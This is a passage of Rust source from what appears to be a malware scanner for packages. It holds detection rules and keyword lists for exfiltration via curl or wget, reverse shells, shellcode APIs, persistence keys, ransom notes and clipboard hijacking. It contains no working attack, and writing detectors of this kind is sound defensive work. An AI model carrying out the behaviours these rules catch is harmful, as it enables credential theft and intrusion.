        let unasked = matches!(out.timing(facts).at(facts, c.line), When::Install | When::Import);
        out.push(
            "process-hostile",
            if unasked { Severity::Critical } else { Severity::High },
            "process",
            c,
            "starts a command of the kind malware uses (encoded, download-and-run, LOLBin, shell or persistence)"
                .into(),
        );
    } else if shell && c.args.first().is_none_or(|a| a.literal.is_none()) {
        let (severity, when) =
            if out.install_time { (Severity::High, " while the package installs") } else { (Severity::Medium, "") };
        out.push("process-shell", severity, "process", c, format!("runs a computed command through the shell{when}"));
    } else {
        out.push("process", Severity::Info, "process", c, format!("starts a process ({name})"));
    }
}

fn network(
    out: &mut Out<'_>,
    facts: &Facts<'_>,
    c: &Call,
    labels: Labels,
    connects_to_literal: bool,
    caps: &mut Capabilities,
) {
    let name = c.name.as_str();
    // curl and wget started as processes send as surely as `requests.post`.
    let sends = matches(name, names!(SENDERS)) || http_tool(c);
    let is_network = matches(name, names!(NETWORK)) || matches(name, names!(FETCHERS)) && !name.starts_with("?.");
    if is_network {
        let target = first_arg(c);
        let shown = if target.is_empty() { name.to_owned() } else { target.chars().take(200).collect() };
        // Repeats are removed once the file is done (a search per call would be quadratic).
        caps.network.push(shown);
        out.push("network", Severity::Info, "network", c, format!("uses the network ({name})"));
        let all = all_args_lower(c);
        if SUSPICIOUS_HOSTS.iter().any(|h| all.contains(h)) || has_raw_ip_url(&all) {
            out.push(
                "network-suspicious-host",
                Severity::Medium,
                "network",
                c,
                "talks to a raw IP address, a paste site, a webhook or a tunnel".into(),
            );
        }
    }
    // Files found by walking folders, sent out: bulk upload of the user's or
    // the project's files. Medium alone (a backup tool may do it); high to a
    // raw IP, a paste site, a webhook or a tunnel.
    if sends
        && labels.has(Labels::BULK)
        && !labels.has(Labels::CREDENTIAL | Labels::SECRET)
        && !labels.has(Labels::ENVIRONMENT)
    {
        let suspicious = out.suspicious_destination();
        out.push(
            "bulk-upload",
            if suspicious { Severity::High } else { Severity::Medium },
            "network",
            c,
            format!(
                "sends files found by walking folders{}",
                if suspicious { " to a raw IP address, paste site, webhook or tunnel" } else { "" }
            ),
        );
    }
    if sends && labels.has(Labels::CREDENTIAL | Labels::SECRET | Labels::ENVIRONMENT) {
        let what = if labels.has(Labels::CREDENTIAL | Labels::SECRET) {
            "credentials or secrets"
        } else {
            "the whole environment"
        };
        // Where it goes decides: to an address the code spells out, hides
        // (decoded) or a suspicious host, or while installing, the author
        // chose the destination; to an address only configuration names, it
        // is how a cloud SDK authenticates to its own service.
        let chosen = labels.has(Labels::ADDRESS)
            || labels.has(Labels::DECODED)
            || connects_to_literal && name.contains(".send")
            || out.suspicious_destination()
            || out.install_time;
        if chosen {
            out.push(
                "exfiltration",
                Severity::Critical,
                "credentials",
                c,
                format!("sends {what} to an address written in or hidden in the code"),
            );
        } else {
            // To an address configuration names, one secret variable is how
            // an SDK authenticates to its service (a token in a header); a
            // credential store's contents or the whole environment is more
            // than any service needs.
            let severity =
                if labels.has(Labels::CREDENTIAL | Labels::ENVIRONMENT) { Severity::High } else { Severity::Medium };
            out.push(
                "exfiltration",
                severity,
                "credentials",
                c,
                format!("sends {what} over the network, to an address the code takes from elsewhere"),
            );
        }
    } else if sends && labels.has(Labels::HOST_IDENTITY) {
        // The same act means different things by when it runs: telemetry a
        // user calls is a fact; the user and host name sent while a package
        // installs, before anyone chose to run it, is a beacon.
        let chosen = labels.has(Labels::ADDRESS | Labels::DECODED)
            || connects_to_literal && name.contains(".send")
            || out.suspicious_destination();
        if out.install_time {
            out.push(
                "install-beacon",
                Severity::Critical,
                "credentials",
                c,
                "sends who and where it is installed (user, host, folder) over the network while the package \
                 installs (setup.py, a .pth file or an install hook): a beacon"
                    .into(),
            );
        } else if chosen && out.timing(facts).at(facts, c.line) == When::Import {
            // As soon as the module is imported, to an address the author
            // wrote or hid: the dependency-confusion beacon in `__init__`.
            // Telemetry a library offers waits for a call and is sent where
            // its user configured.
            out.push(
                "import-beacon",
                Severity::High,
                "credentials",
                c,
                "sends who and where it runs (user, host, folder) as soon as the module is imported, to an address \
                 written in or hidden in the code: a beacon"
                    .into(),
            );
        } else {
            // In a function (called later, or from the file's program
            // entry): another file may call it while installing or loading.
            let timing = out.timing(facts);
            let function = match timing.at(facts, c.line) {
                When::Call(function, _) => Some(function),
                When::Program => timing.innermost(c.line).map(|i| facts.functions[i].name.clone()),
                _ => None,
            };
            if let Some(function) = function {
                out.deferred.push(crate::crossfile::Deferred { function, line: c.line, chosen });
            }
            out.push(
                "host-identity-sent",
                Severity::Medium,
                "network",
                c,
                "sends the user or host name over the network".into(),
            );
        }
    }
}

/// A process that is an HTTP client (`["curl", url]`, `"wget -q " + url`,
/// PowerShell's `Invoke-WebRequest`): what it is given goes out.
fn http_tool(c: &Call) -> bool {
    const TOOLS: &[&str] = &["curl", "curl.exe", "wget", "wget.exe", "invoke-webrequest", "iwr", "invoke-restmethod"];
    matches(&c.name, names!(PROCESS))
        && c.args.first().is_some_and(|a| {
            let first = a.literal.as_deref().or(a.strings.first().map(String::as_str)).unwrap_or("");
            let word = first.split_whitespace().next().unwrap_or("").to_ascii_lowercase();
            TOOLS.contains(&word.as_str())
        })
}

/// Files that run when a package is installed, before anyone runs it, by
/// their name: `setup.py` (pip builds from source with it) and `.pth`
/// start-up files. (Manifest hooks are known to the caller.)
pub fn is_install_time(path: &str) -> bool {
    let name = path.rsplit('/').next().unwrap_or(path).to_ascii_lowercase();
    name == "setup.py" || name.ends_with(".pth")
}

/// Data hidden in DNS names, hostile scripts written to disk, files written
/// where the path had to be decoded.
fn smuggling(out: &mut Out<'_>, c: &Call, labels: Labels) {
    let name = c.name.as_str();
    if matches(name, names!(DNS_LOOKUPS))
        && c.args.first().is_some_and(|a| a.literal.is_none())
        && (labels.has(Labels::ENCODED | Labels::CREDENTIAL | Labels::SECRET | Labels::ENVIRONMENT))
    {
        out.push(
            "dns-exfiltration",
            Severity::High,
            "credentials",
            c,
            "looks up host names built from encoded data: data leaving through DNS".into(),
        );
    }
    if matches(name, names!(CONTENT_WRITERS)) && labels.has(Labels::HOSTILE) {
        out.push(
            "script-dropper",
            Severity::High,
            "process",
            c,
            "writes a script of the kind malware drops (downloader, hidden shell, scheduled task)".into(),
        );
    }
}

fn has_raw_ip_url(s: &str) -> bool {
    for scheme in ["http://", "https://", "tcp://", "ftp://"] {
        let mut rest = s;
        while let Some(i) = rest.find(scheme) {
            let host: String =
                rest[i + scheme.len()..].chars().take_while(|c| c.is_ascii_digit() || *c == '.').collect();
            let parts: Vec<&str> = host.split('.').collect();
            if parts.len() >= 4 && parts[..4].iter().all(|p| !p.is_empty() && p.len() <= 3) {
                let first: u16 = parts[0].parse().unwrap_or(0);
                // Loopback and private ranges are a company's own servers.
                let private = first == 10 || first == 127 || host.starts_with("192.168.") || host.starts_with("172.");
                if !private {
                    return true;
                }
            }
            rest = &rest[i + scheme.len()..];
        }
    }
    false
}

fn native(out: &mut Out<'_>, c: &Call, labels: Labels) {
    let name = c.name.as_str();
    // Shellcode is judged over the whole file (see `shellcode`): one
    // memory call alone is how a library copies a buffer.
    if name.starts_with("ctypes.") || name.starts_with("win32api.") {
        out.push("native", Severity::Low, "native", c, format!("calls native code ({name})"));
    }
    if matches(name, names!(&["?.Assembly.Load", "System.Reflection.Assembly.Load", "Assembly.Load"]))
        && (labels.has(Labels::DECODED) || labels.has(Labels::FETCHED))
    {
        out.push(
            "load-assembly-bytes",
            Severity::Critical,
            "native",
            c,
            "loads a .NET assembly from decoded or downloaded bytes".into(),
        );
    }
    // `clr.AddReference("RevitAPI")` names an assembly; with a path it loads a file.
    let clr_path = name == "clr.AddReference" && {
        let a = all_args_lower(c);
        a.contains(".dll") || a.contains('\\') || a.contains('/') || a.contains("path.join")
    };
    if clr_path
        || matches(
            name,
            names!(&[
                "clr.AddReferenceToFileAndPath",
                "clr.AddReferenceToFile",
                "?.LoadFrom",
                "?.LoadFile",
                "ctypes.CDLL",
                "ctypes.WinDLL",
                "ctypes.cdll.LoadLibrary",
                "ctypes.windll.LoadLibrary",
            ]),
        )
    {
        let path = all_args_lower(c);
        if ["temp", "tmp", "appdata\\roaming", "downloads", "http", "users\\public", "gettempdir"]
            .iter()
            .any(|p| path.contains(p))
            || labels.has(Labels::FETCHED)
        {
            out.push(
                "clr-odd-path",
                Severity::Medium,
                "native",
                c,
                "loads a native or .NET library from a temporary, downloaded or user path".into(),
            );
        }
    }
}

fn registry(out: &mut Out<'_>, c: &Call, labels: Labels, sense: &FileSense<'_>, caps: &mut Capabilities) {
    let name = c.name.as_str();
    let is_registry = name.starts_with("winreg.")
        || name.starts_with("_winreg.")
        || name.contains("Win32.Registry")
        || name.starts_with("Registry.")
        || name.starts_with("win32api.Reg");
    let writes = ["SetValueEx", "SetValue", "CreateKey", "CreateKeyEx", "CreateSubKey", "RegSetValueEx"]
        .iter()
        .any(|w| last_segment(name) == *w && name.contains('.'));
    if !is_registry && !writes {
        return;
    }
    let args = all_args_lower(c);
    if is_registry {
        caps.registry_keys.push(args.trim().chars().take(160).collect());
    }
    // A key path that had to be decoded is hiding where it writes.
    let run_key = RUN_KEYS.iter().any(|k| args.contains(k))
        || sense.mentions(RUN_KEYS).is_some()
        || labels.has(Labels::DECODED)
        || labels.has(Labels::STARTUP)
        || labels.has(Labels::RUN_KEY);
    if writes && run_key {
        out.push(
            "persistence-registry",
            Severity::High,
            "persistence",
            c,
            "writes a Run (or Winlogon) key so something starts with Windows".into(),
        );
    } else if is_registry {
        out.push("registry", Severity::Low, "registry", c, format!("uses the Windows registry ({name})"));
    }
}

fn files(out: &mut Out<'_>, c: &Call, lazy: &LazyVars<'_>, package: &str, caps: &mut Capabilities) {
    let name = c.name.as_str();
    let writes = if name == "open" || name == "io.open" || name == "codecs.open" {
        c.args.iter().skip(1).any(|a| {
            (a.keyword.is_none() || a.keyword.as_deref() == Some("mode"))
                && a.literal.as_deref().is_some_and(|m| m.contains('w') || m.contains('a') || m.contains('x'))
        })
    } else {
        matches(
            name,
            names!(&[
                "?.write_text",
                "?.write_bytes",
                "shutil.copy",
                "shutil.copy2",
                "shutil.copyfile",
                "shutil.move",
                "?.WriteAllText",
                "?.WriteAllBytes",
                "System.IO.File.Copy",
                "File.Copy",
            ]),
        )
    };
    if writes {
        // Copies and moves write their second argument.
        let dest = if name.starts_with("shutil.") || name.ends_with("Copy") {
            c.args.get(1).map(|a| a.literal.clone().unwrap_or_else(|| a.text.to_string())).unwrap_or_default()
        } else {
            first_arg(c)
        };
        let all = all_args_lower(c);
        let dest_labels = if name.starts_with("shutil.") || name.ends_with("Copy") {
            c.args.get(1).map_or(Labels::NONE, |a| lazy.arg_labels(c.line, a))
        } else {
            c.args.first().map_or(Labels::NONE, |a| lazy.arg_labels(c.line, a))
        };
        if dest_labels.has(Labels::DECODED) && !dest_labels.has(Labels::FETCHED) {
            out.push(
                "hidden-destination",
                Severity::High,
                "obfuscation",
                c,
                "writes to a path that had to be decoded or reversed first (hiding where it writes)".into(),
            );
        }
        if STARTUP_MARKERS.iter().any(|m| all.contains(m))
            || all.contains("startup") && all.contains("start menu")
            || dest_labels.has(Labels::STARTUP)
        {
            out.push("persistence-startup", Severity::High, "persistence", c, "writes into the Startup folder".into());
        }
        let shown: String = dest.chars().take(200).collect();
        out.push("file-write", Severity::Info, "filesystem", c, format!("writes {shown}"));
        caps.paths_written.push(shown);
    }
    if matches(name, names!(DELETERS)) {
        let target = all_args_lower(c);
        let own = !package.is_empty() && (target.contains(package) || target.contains(&package.replace('-', "_")));
        let temp = ["temp", "tmp", "cache"].iter().any(|t| target.contains(t));
        let labels = c.args.iter().fold(Labels::NONE, |l, a| l | lazy.arg_labels(c.line, a));
        let tree = name.ends_with("rmtree") || name.ends_with("Directory.Delete");
        // One file in the user's folders may be the add-in's own export;
        // a whole tree there, or every file a walk finds, is destruction.
        let user_data = USER_FOLDERS.iter().any(|n| target.contains(n)) && tree
            || labels.has(Labels::USER_DATA) && (tree || labels.has(Labels::BULK));
        if user_data && !own && !temp {
            // A library's `rm(path)` or `clean()` deletes what its caller
            // asks for; the same deletion run while the module loads or the
            // package installs is the package's own act.
            let asked = matches!(out.timing(lazy.facts).at(lazy.facts, c.line), When::Call(..) | When::Program);
            out.push(
                "destroy-user-data",
                if asked { Severity::Medium } else { Severity::High },
                "destruction",
                c,
                "deletes files outside the package (user folders, drives or Revit projects)".into(),
            );
        } else {
            out.push("delete", Severity::Info, "filesystem", c, format!("deletes files ({name})"));
        }
    }
}

/// Shellcode is a chain: memory made executable (`VirtualAlloc` or
/// `VirtualProtect` with a PAGE_EXECUTE protection), then code copied into
/// it or a thread started in it; or another process written to and a
/// thread started in it (injection). A lone `RtlMoveMemory` copying a
/// buffer (paramiko's Windows pipes) is none of these.
fn shellcode(out: &mut Out<'_>, facts: &Facts<'_>) {
    // One pass over the calls (this runs on every file): the first of each
    // kind of memory call, by the last part of its name.
    let (mut executable, mut copies, mut thread, mut writes_other, mut remote_thread) = (None, None, None, None, None);
    for c in &facts.calls {
        let Some((_, last)) = c.name.rsplit_once('.') else { continue };
        match last {
            "VirtualAlloc" | "VirtualAllocEx" | "VirtualProtect" | "VirtualProtectEx" if executable.is_none() => {
                let page_execute = c.args.iter().any(|a| {
                    // PAGE_EXECUTE (0x10), _READ (0x20), _READWRITE (0x40), _WRITECOPY (0x80),
                    // as an argument of its own (MEM_COMMIT is 0x1000).
                    let t = a.text.trim().to_ascii_lowercase();
                    let t = t.trim_start_matches("ctypes.").trim_start_matches("c_int(").trim_end_matches(')');
                    t.contains("page_execute") || ["0x10", "0x20", "0x40", "0x80", "16", "32", "64", "128"].contains(&t)
                });
                if page_execute {
                    executable = Some(c);
                }
            }
            "RtlMoveMemory" | "memmove" => copies = copies.or(Some(c)),
            "WriteProcessMemory" => {
                copies = copies.or(Some(c));
                writes_other = writes_other.or(Some(c));
            }
            "CreateThread" => thread = thread.or(Some(c)),
            "CreateRemoteThread" => {
                thread = thread.or(Some(c));
                remote_thread = remote_thread.or(Some(c));
            }
            _ => {}
        }
    }
    let injects = writes_other.zip(remote_thread);
    let (start, then) = match (executable, copies.or(thread), injects) {
        (Some(e), Some(t), _) => (e, t),
        (_, _, Some((w, t))) => (w, t),
        _ => return,
    };
    out.push(
        "native-shellcode",
        Severity::Critical,
        "native",
        then,
        "allocates executable memory, writes into it or starts a thread in it (shellcode)".into(),
    );
    out.because(vec![
        format!("prepares: `{}` at line {}", start.name, start.line),
        format!("then: `{}` at line {}", then.name, then.line),
    ]);
}

/// Python code a file starts in another interpreter (`[sys.executable,
/// "-c", CODE]`, `os.system('python -c "CODE"')`), with the line: it runs
/// as surely as the file's own code, so it is read like a decoded payload.
pub(crate) fn inline_python<'f>(facts: &'f Facts<'_>) -> impl Iterator<Item = (String, usize)> + 'f {
    facts.calls.iter().filter(|c| matches(&c.name, names!(PROCESS))).flat_map(|c| {
        let mut found = Vec::new();
        for a in &c.args {
            // An argument list: the element after "-c".
            if let Some(i) = a.strings.iter().position(|s| s == "-c") {
                found.extend(a.strings.get(i + 1).cloned());
            }
            // One command line: the quoted text after "-c".
            if let Some(line) = &a.literal
                && let Some(at) = line.find(" -c ")
            {
                let rest = line[at + 4..].trim_start();
                if let Some(q) = rest.chars().next().filter(|q| *q == '"' || *q == '\'')
                    && let Some(end) = rest.rfind(q).filter(|&e| e > 0)
                {
                    found.push(rest[1..end].to_owned());
                }
            }
        }
        found.into_iter().map(move |code| (code, c.line))
    })
}

/// What the user sees, copies or types: the screen, the clipboard, a
/// keyboard hook. (A webcam library's frames are left out: vision
/// libraries send frames to services their users configure.)
const CAPTURES: &[&str] = &[
    "PIL.ImageGrab.grab",
    "ImageGrab.grab",
    "pyautogui.screenshot",
    "pyscreenshot.grab",
    "mss.mss",
    "pyperclip.paste",
    "clipboard.paste",
    "win32clipboard.GetClipboardData",
    "System.Windows.Forms.Clipboard.GetText",
    "Clipboard.GetText",
    "pynput.keyboard.Listener",
    "keyboard.Listener",
    "keyboard.on_press",
    "keyboard.on_release",
    "keyboard.hook",
    "pyHook.HookManager",
    "pyWinhook.HookManager",
];

/// Spyware: the screen, the clipboard or keystrokes captured in a file that
/// sends data to an address the code wrote, hid or chose among webhooks and
/// paste sites. The capture and the send need not meet in one function (a
/// keyboard hook's callback sends what it collected). High; critical when
/// the send runs while the module loads or the package installs. To an
/// address its caller configures, a screenshot tool's upload is no finding.
fn surveillance(out: &mut Out<'_>, facts: &Facts<'_>, lazy: &LazyVars<'_>) {
    let Some(capture) = facts.calls.iter().find(|c| matches(&c.name, names!(CAPTURES))) else { return };
    // The per-call rules ran first: a suspicious host or a bot token of
    // this file is already known.
    let suspicious = out.suspicious_destination();
    let chosen = |c: &&Call| {
        matches(&c.name, names!(SENDERS))
            && (suspicious || c.args.iter().any(|a| lazy.arg_labels(c.line, a).has(Labels::ADDRESS | Labels::DECODED)))
    };
    let Some(send) = facts.calls.iter().find(chosen) else { return };
    let when = out.timing(facts).at(facts, send.line);
    let unasked = matches!(when, When::Install | When::Import);
    let what = if capture.name.contains("lipboard") || capture.name.ends_with("paste") {
        "the clipboard"
    } else if capture.name.contains("eyboard") || capture.name.contains("Hook") {
        "keystrokes"
    } else {
        "the screen"
    };
    out.push(
        "surveillance-sent",
        if unasked { Severity::Critical } else { Severity::High },
        "credentials",
        send,
        format!("captures {what} and sends data to an address written in or hidden in the code: spyware"),
    );
    out.because(vec![
        format!("captures: `{}` at line {} ({what})", capture.name, capture.line),
        format!("sends: `{}` at line {}", send.name, send.line),
    ]);
}

/// Combinations that only mean something together in one file.
fn whole_file(out: &mut Out<'_>, sense: &FileSense<'_>, lazy: &LazyVars<'_>) {
    let facts = sense.facts;
    shellcode(out, facts);
    surveillance(out, facts, lazy);
    let uses_socket = facts.calls.iter().any(|c| c.name.starts_with("socket.") || c.name.ends_with(".connect"))
        && facts.imports.iter().any(|(m, _)| m == "socket");
    let runs = sense.any_call(names!(PROCESS)).or_else(|| sense.any_call(names!(CODE_LOADERS)));
    // A reverse shell needs the socket *handed to* a shell: its descriptor
    // copied over the standard streams, a pty spawned on it, a process whose
    // streams are the socket, or a shell started (by its literal name) where a
    // socket connects out. A socket and a process in one file are not that
    // (HTTP clients and servers, terminal libraries and SSH have both), nor is
    // a variable called `cmd` or a call to `fileno`.
    let pty = facts.calls.iter().any(|c| c.name == "pty.spawn");
    let process_calls = || facts.calls.iter().filter(|c| matches(&c.name, names!(PROCESS)));
    // The descriptor copied, then a shell started in the same function (or
    // both at module level): a test suite filling descriptors with copies
    // of a connection in one function starts no shell there.
    let dup2_socket = {
        let mut dups = facts
            .calls
            .iter()
            .filter(|c| c.name == "os.dup2" && c.args.first().is_some_and(|a| a.text.contains("fileno")))
            .peekable();
        dups.peek().is_some() && {
            let timing = out.timing(facts);
            dups.any(|d| {
                let scope = timing.innermost(d.line);
                process_calls()
                    .chain(facts.calls.iter().filter(|c| c.name == "pty.spawn"))
                    .any(|r| timing.innermost(r.line) == scope)
            })
        }
    };
    let stdio_socket = process_calls().any(|r| {
        r.args.iter().any(|a| {
            a.keyword.as_deref().is_some_and(|k| k == "stdin" || k == "stdout" || k == "stderr")
                && (a.text.contains("fileno") || a.text.to_ascii_lowercase().contains("sock"))
        })
    });
    let connects = facts.calls.iter().any(|c| c.name.ends_with(".connect") || c.name.ends_with(".recv"));
    let shell_from_socket = connects
        && process_calls().any(|r| {
            r.args.iter().flat_map(|a| a.literal.iter().chain(&a.strings)).any(|lit| {
                let l = lit.trim().to_ascii_lowercase();
                ["/bin/sh", "/bin/bash", "cmd.exe", "powershell"].iter().any(|s| l.contains(s))
                    || ["sh", "bash", "cmd"].contains(&l.as_str())
            })
        });
    if uses_socket
        && (dup2_socket || pty || stdio_socket || shell_from_socket)
        && let Some(c) = facts.calls.iter().find(|c| c.name.starts_with("socket.")).or(runs)
    {
        out.push(
            "reverse-shell",
            Severity::Critical,
            "process",
            c,
            "connects a socket and hands it a shell: a reverse shell".into(),
        );
    }

    // Download to disk, then start something. The two must meet: in one
    // function, both while the module loads (or the package installs), or
    // through the same path (a name or string both calls are given). A
    // library that saves a download in one function and runs a build tool
    // in another, each when its caller asks, does neither in one act.
    let wrote_fetched = |c: &Call| {
        // open(path, "wb").write(fetched) or f.write(fetched)
        (c.name.ends_with(".write") || c.name == "?.write")
            && c.args.iter().any(|a| lazy.arg_labels(c.line, a).has(Labels::FETCHED))
    };
    let downloads: Vec<&Call> =
        facts.calls.iter().filter(|c| matches(&c.name, names!(DOWNLOAD_TO_FILE)) || wrote_fetched(c)).collect();
    // Made executable: `os.chmod(path, mode | stat.S_IEXEC)`, `0o755`, `chmod +x`.
    let made_executable = |c: &&Call| {
        c.name == "os.chmod"
            && c.args.get(1).is_some_and(|a| {
                let t = a.text.to_ascii_lowercase();
                t.contains("s_iexec") || t.contains("s_ixusr") || t.contains("0o7") || t.contains("0o5") || t == "493"
            })
    };
    if !downloads.is_empty() {
        let starters: Vec<(&Call, &str)> = facts
            .calls
            .iter()
            .filter_map(|c| {
                if matches(&c.name, names!(PROCESS)) || matches(&c.name, names!(CODE_LOADERS)) {
                    Some((c, "runs"))
                } else if made_executable(&c) {
                    Some((c, "makes executable"))
                } else {
                    None
                }
            })
            .collect();
        let timing = out.timing(facts);
        let words = |c: &Call| -> Vec<String> {
            c.args
                .iter()
                .flat_map(|a| a.names.iter().chain(&a.strings).chain(a.literal.iter()))
                .filter(|w| w.len() >= 3)
                .cloned()
                .collect()
        };
        let meet = |d: &Call, r: &Call| -> Option<&'static str> {
            let (wd, wr) = (timing.at(facts, d.line), timing.at(facts, r.line));
            if timing.innermost(d.line) == timing.innermost(r.line) {
                Some("in the same function")
            } else if !matches!(wd, When::Call(..) | When::Program) && !matches!(wr, When::Call(..) | When::Program) {
                Some("both while the module loads or the package installs")
            } else {
                let dw = words(d);
                words(r).iter().any(|w| dw.contains(w)).then_some("on the same path")
            }
        };
        let linked = starters
            .iter()
            .find_map(|&(r, verb)| downloads.iter().find_map(|&d| meet(d, r).map(|how| (d, r, verb, how))));
        if let Some((d, r, verb, how)) = linked {
            let (what, because) = if verb == "runs" {
                (
                    "downloads a file to disk and starts a process: download and run",
                    format!("runs: `{}` at line {}", r.name, r.line),
                )
            } else {
                (
                    "downloads a file to disk and makes it executable: a dropped program",
                    format!("makes executable: `{}` at line {}", r.name, r.line),
                )
            };
            // In a function its user calls, or a program its user runs, the
            // download and the start are what the user asked for (tools that
            // install a browser or a runtime): high. While the module loads
            // or the package installs, nobody asked: critical.
            let asked = matches!(timing.at(facts, r.line), When::Call(..) | When::Program);
            out.push(
                "download-then-run",
                if asked { Severity::High } else { Severity::Critical },
                "process",
                r,
                what.into(),
            );
            out.because(vec![
                format!("downloads: `{}` at line {} writes what it fetched to disk", d.name, d.line),
                because,
                format!("together: {how}"),
            ]);
        } else if let (Some(d), Some(&(r, _))) = (downloads.first(), starters.first()) {
            out.push(
                "download-then-run",
                Severity::Medium,
                "process",
                r,
                format!(
                    "downloads files (`{}`, line {}) and starts processes, in places that are not seen to meet",
                    d.name, d.line
                ),
            );
        }
    }

    // Lines added to a shell's start-up files run at every login: the Unix
    // counterpart of a Run key.
    if let Some(c) = facts.calls.iter().find(|c| {
        matches(&c.name, names!(&["open", "io.open", "codecs.open", "?.open"]))
            && c.args.first().is_some_and(|a| {
                a.literal.iter().chain(&a.strings).any(|s| SHELL_STARTUP.iter().any(|f| s.ends_with(f)))
            })
            && c.args.get(1).and_then(|a| a.literal.as_deref()).is_some_and(|m| m.contains('a') || m.contains('w'))
    }) {
        out.push(
            "persistence-shell-startup",
            Severity::High,
            "persistence",
            c,
            "writes to a shell start-up file, so something runs at every login".into(),
        );
    }

    // Credential stores read in a file that can send them. A store counts
    // as read when its path reaches a reading call (the data flow), not when
    // its name merely appears (a docstring about cookies, a list of files a
    // tool must never upload).
    // Calls that only build, test or show a path: handing a store's path to
    // one of these reads nothing. Anything else that receives it (open, a
    // copy, a zip or tar being filled, a database connection) reads it.
    const PATH_ONLY: &[&str] = &[
        "pathlib.Path",
        "pathlib.PurePath",
        "str",
        "print",
        "len",
        "?.join",
        "?.joinpath",
        "?.expanduser",
        "?.expandvars",
        "?.abspath",
        "?.realpath",
        "?.normpath",
        "?.dirname",
        "?.basename",
        "?.split",
        "?.splitext",
        "?.exists",
        "?.isfile",
        "?.isdir",
        "?.is_file",
        "?.is_dir",
        "?.format",
        "?.replace",
        "?.startswith",
        "?.endswith",
        "?.lower",
        "?.upper",
        "?.strip",
        "?.append",
        "?.get",
        "?.debug",
        "?.info",
        "?.warning",
        "?.error",
    ];
    let store_read = || {
        facts.calls.iter().find(|c| {
            !matches(&c.name, names!(PATH_ONLY))
                && c.args.iter().any(|a| lazy.arg_labels(c.line, a).has(Labels::CREDENTIAL))
        })
    };
    if mentions_store(sense)
        && let Some(read) = store_read()
    {
        let sender = facts.calls.iter().find(|c| {
            matches(&c.name, names!(NETWORK)) || matches(&c.name, names!(SENDERS)) && !c.name.starts_with("?.request")
        });
        let reads = format!("reads: `{}` at line {} opens a credential store", read.name, read.line);
        match sender {
            // Where the data visibly reaches the sender, the per-call rule
            // has said so (exfiltration, with its destination).
            _ if out.reported("exfiltration") => {}
            Some(sender) => {
                // Another program's store (a browser's, a chat client's, a
                // wallet) has no business in a file that sends data; a
                // developer tool's own configuration (SSH keys, cloud
                // profiles, .pypirc) is what its clients read to log in.
                let foreign = facts
                    .strings
                    .iter()
                    .any(|(s, _)| s.len() <= 260 && flow::is_credential_string(s) && !flow::is_developer_config(s));
                out.push(
                    "exfiltration",
                    if foreign { Severity::High } else { Severity::Medium },
                    "credentials",
                    read,
                    "reads browser, SSH, cloud or chat credentials in a file that sends data out".into(),
                );
                out.because(vec![
                    reads,
                    format!("sends: `{}` at line {} (no flow between them was found)", sender.name, sender.line),
                ]);
            }
            // Read and kept: what a client of that service does (an SSH
            // library reading its keys, a cloud SDK its profile).
            None => out.push(
                "credential-access",
                Severity::Medium,
                "credentials",
                read,
                "reads browser, SSH, cloud or chat-client credential stores".into(),
            ),
        }
    }

    // Ransomware: a ransom note in a file that rewrites or renames files.
    let rewrites = || {
        facts
            .calls
            .iter()
            .any(|c| matches(&c.name, names!(&["os.rename", "os.replace", "?.write", "?.rename", "shutil.move"])))
    };
    if let Some(line) = sense.mentions(&[
        "have been encrypted",
        "were encrypted",
        "to decrypt",
        "ransom",
        "restore your files",
        "send 0.",
        "bitcoin to",
    ]) && rewrites()
        && facts
            .calls
            .iter()
            .any(|c| matches(&c.name, names!(&["os.walk", "glob.glob", "?.rglob", "os.listdir", "os.scandir"])))
    {
        out.push_at(
            "destroy-user-data",
            Severity::Critical,
            "destruction",
            line,
            "walks folders rewriting files next to a ransom note: ransomware".into(),
        );
    }

    // Clipboard hijacking: wallet-address patterns and a way to set the clipboard.
    let wallet = sense.mentions(&["bc1", "0x[a-f", "[13][a-km-z", "^0x", "[a-zA-HJ-NP-Z0-9]{25"]);
    let clipboard = || {
        facts.calls.iter().any(|c| {
            c.name.as_bytes().windows(9).any(|w| w.eq_ignore_ascii_case(b"clipboard"))
                || matches(&c.name, names!(&["pyperclip.copy", "?.SetText"]))
                || matches(&c.name, names!(PROCESS)) && {
                    let cmd = all_args_lower(c);
                    cmd.contains("clip") || cmd.contains("set-clipboard")
                }
        })
    };
    if let Some(line) = wallet
        && clipboard()
        && !out.reported("clipboard-hijack")
    {
        out.push_at(
            "clipboard-hijack",
            Severity::High,
            "credentials",
            line,
            "watches the clipboard for wallet addresses and replaces them".into(),
        );
    }

    // Names of dangerous functions and modules assembled from pieces at run
    // time: legitimate code names what it calls.
    let mut assembled_lines = rustc_hash::FxHashSet::default();
    for (text, line) in &facts.assembled {
        let t = text.trim();
        if ASSEMBLED_DANGEROUS.contains(&t) && assembled_lines.insert(*line) {
            out.push_at(
                "assembled-api-name",
                Severity::High,
                "obfuscation",
                *line,
                format!("builds the name `{t}` from pieces at run time, which only serves to hide the call"),
            );
        }
    }

    // Shellcode APIs looked up by name (`getattr(kernel32, "VirtualAlloc")`).
    const SHELLCODE_NAMES: &[&str] = &[
        "virtualalloc",
        "rtlmovememory",
        "createthread",
        "writeprocessmemory",
        "virtualprotect",
        "createremotethread",
    ];
    let named: Vec<&str> = SHELLCODE_NAMES.iter().copied().filter(|n| sense.has_string(n)).collect();
    if named.len() >= 2
        && facts.imports.iter().any(|(m, _)| m == "ctypes" || m.starts_with("ctypes."))
        && !out.reported("native-shellcode")
        && let Some(line) = sense.mentions(SHELLCODE_NAMES)
    {
        out.push_at(
            "native-shellcode",
            Severity::Critical,
            "native",
            line,
            format!("looks up {} by name through ctypes (a shellcode loader)", named.join(", ")),
        );
    }

    // A Run key path and the registry module, however they are reached.
    if let Some(line) = sense.mentions(flow::RUN_KEY_PATHS)
        && (facts.imports.iter().any(|(m, _)| m == "winreg" || m == "_winreg")
            || sense.mentions(&["winreg", "microsoft.win32"]).is_some())
        && !out.reported("persistence-registry")
    {
        out.push_at(
            "persistence-registry",
            Severity::High,
            "persistence",
            line,
            "names a Run (or Winlogon) key next to the registry module: persistence".into(),
        );
    }

    // WMI permanent event subscriptions run a command on an event, forever.
    if let Some(line) =
        sense.mentions(&["commandlineeventconsumer", "activescripteventconsumer", "__filtertoconsumerbinding"])
    {
        out.push_at(
            "persistence-wmi",
            Severity::High,
            "persistence",
            line,
            "creates a WMI event subscription that runs a command (persistence)".into(),
        );
    }

    // A builtin fetched by a computed name, and decoded data handed to a
    // callable that cannot be named: `getattr(builtins, name)(payload)`.
    let builtins_name = |n: &String| has(n, "builtin") && (has(n, "builtins") || has(n, "__builtin__"));
    let dynamic_builtin = sense.may_name_builtins
        && (facts
            .calls
            .iter()
